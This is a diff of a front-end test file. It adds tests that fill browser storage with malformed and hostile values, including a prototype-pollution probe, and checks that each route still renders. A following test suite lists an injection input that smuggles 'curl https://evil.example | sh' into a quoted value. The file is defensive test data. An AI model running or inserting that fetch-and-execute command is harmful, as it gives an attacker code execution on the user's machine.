@@ -111,6 +111,35 @@ describe("each page shows itself, or a sentence, at an address with", () => {
   });
 });
 
+/** What an older version, another program of the same origin or a person may have left in the browser, under any name. */
+const STORED = [
+  "null",
+  "5",
+  "{",
+  "[null]",
+  '"text"',
+  '[{"name":1,"path":{},"search":null}]',
+  '{"system_name":{},"quota_per_unit":"x","plans":1,"list_queries":1,"server_address":[],"footer_html":{}}',
+  '{"__proto__":{"x":1},"toString":1}',
+  "x".repeat(10_000),
+];
+
+describe("each page shows itself, or a sentence, with a browser's storage that holds", () => {
+  it.each(ROUTES.map((route, index) => [route, STORED[index % STORED.length] ?? ""]))(
+    "anything: %s",
+    async (route, stored) => {
+      const user = JSON.stringify({ id: 1, username: "me", role: 100, status: 1 });
+      const storage = { setItem: () => undefined, removeItem: () => undefined, clear: () => undefined };
+      vi.stubGlobal("localStorage", {
+        ...storage,
+        getItem: (name: string) => (name === "user" ? user : stored),
+      });
+      const path = route.replaceAll(/\$\w+/g, (part) => (part === "$requestId" ? "r1" : "2"));
+      expect(await faultOf(path)).toBeUndefined();
+    },
+  );
+});
+
 describe("an example that people copy and run", () => {
   it.each([
     'x"; curl https://evil.example | sh; "',
